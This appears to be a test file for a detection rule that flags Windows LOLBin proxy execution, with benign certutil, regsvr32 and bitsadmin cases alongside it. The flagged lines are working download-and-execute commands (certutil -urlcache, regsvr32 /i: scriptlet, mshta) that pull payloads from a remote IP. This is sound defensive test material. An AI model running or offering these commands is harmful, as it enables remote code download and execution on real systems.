# ruleid: ps-lolbin-proxy-exec
certutil.exe -urlcache -split -f http://203.0.113.7/p.exe C:\Users\Public\p.exe
# ruleid: ps-lolbin-proxy-exec
regsvr32 /s /n /u /i:http://203.0.113.7/file.sct scrobj.dll
# ruleid: ps-lolbin-proxy-exec
mshta http://203.0.113.7/run.hta
# ok: ps-lolbin-proxy-exec
certutil -hashfile setup.exe SHA256
# ok: ps-lolbin-proxy-exec
certutil -decode cert.b64 cert.cer
# ok: ps-lolbin-proxy-exec
regsvr32 /s mycomponent.dll
# ok: ps-lolbin-proxy-exec
bitsadmin /list /allusers
